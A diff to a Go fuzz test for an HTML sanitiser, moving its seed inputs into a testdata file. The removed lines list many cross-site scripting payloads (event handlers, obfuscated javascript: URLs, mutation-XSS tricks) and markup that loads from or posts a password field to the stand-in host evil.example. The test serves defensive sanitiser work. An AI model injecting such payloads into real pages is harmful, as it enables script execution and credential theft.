@@ -1,6 +1,7 @@
 package sanitiser_test
 
 import (
+	"os"
 	"slices"
 	"strings"
 	"testing"
@@ -156,36 +157,14 @@ func TestWhatStaysIsHarmless(t *testing.T) {
 }
 
 func FuzzSanitise(f *testing.F) {
+	attacks, err := os.ReadFile("testdata/attacks.html") // one a line
+	require.NoError(f, err)
+	for raw := range strings.Lines(string(attacks)) {
+		f.Add(strings.TrimSuffix(raw, "\n"))
+	}
 	for _, raw := range []string{
-		`<p onclick=x>a</p>`, `<a href="https://x.example/?a=b&c#d">x</a>`, `<img src="` + ours + `a.png" alt="&quot;">`, "<b><i></b></i>",
-		"<ul><li>a<li>b",
-		"<script/>a</script>", "<textarea><script>", "<plaintext></p>", "<svg><style><a title=\"</style><img src=x>\">", "&#13;&#0;&amp;lt;",
-		"<noscript><!--</noscript>-->", `<a href="mailto:a%0ab">`,
-		"<math><![CDATA[<p>]]>", "<a href=http://[::1%25a]/>", "<a href=http://[::1%25a\xf7]/>", "<p>\x00\xff", `<a href="http://例え/%E4%BE">`,
-		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<p onclick="alert(1)">`, `<a href="javascript:alert(1)">`,
-		`<a href="jAvAsCrIpT&colon;alert(1)">`, `<a href="&#106;avascript:alert(1)">`, `<svg onload=alert(1)>`, `<form action=//evil.example>`,
-		`<a href="data:text/html,<script>alert(1)</script>">`, `<input autofocus onfocus=alert(1)>`, `<body onload=alert(1)>`,
-		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
-		`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<b/onclick=alert(1)>x</b>`, `<p "onclick=alert(1) x="`,
+		`<img src="` + ours + `a.png" alt="&quot;">`, "<a href=http://[::1%25a\xf7]/>", "<p>\x00\xff",
 		"<a href=\"java\tscript:alert(1)\">x</a>",
-		`<a href="vbscript:x">x</a>`, `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>`,
-		`<applet code="x"></applet>`,
-		`<textarea><script>alert(1)</script></textarea>`, `<template><script>alert(1)</script></template>`, `<select><option>x</option></select>`,
-		`<form action="//evil.example"><input name=password><button formaction="//evil.example">x</button></form>`,
-		`<!--[if IE]><script>alert(1)</script><![endif]-->`, `<!doctype html><html><body onload=alert(1)>x</body></html>`,
-		`<scr<script>ipt>alert(1)</script>`, `<video onerror=alert(1)><source></video>`,
-		`<meta http-equiv=refresh content="0;url=//evil.example">`,
-		`<iframe src="https://evil.example"></iframe>`, `<frameset><frame src="//evil.example"></frameset>`,
-		`<object data="//evil.example"></object>`, `<embed src="//evil.example">`, `<portal src="//evil.example">`,
-		`<img src="https://evil.example/pixel.gif">`, `<img src="//evil.example/pixel.gif">`, `<link rel=stylesheet href="//evil.example">`,
-		`<video src="//evil.example" poster="//evil.example">`, `<audio src="//evil.example">`, `<a ping="//evil.example">`,
-		`<p style="background:url(//evil.example)">`, `<style>@import "//evil.example"</style>`, `<base href="//evil.example">`,
-		`<img srcset="//evil.example 1x">`, `<table background="//evil.example">`,
-		`<a href="//evil.example/">x</a>`, `<a href="https:evil.example">x</a>`, `<a href="\\evil.example">x</a>`, `<a href="/api/evil/">x</a>`,
-		`<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<audio src="//evil.example/x.mp3" autoplay></audio>`,
-		`<video poster="//evil.example/x.png"></video>`,
-		`<p style="position:fixed">`, `<p class="overlay">`, `<p id="login">`, `<a name="top">`, `<p hidden>`, `<p data-id="1">`,
-		`<!-- secret -->`,
 	} {
 		f.Add(raw)
 	}
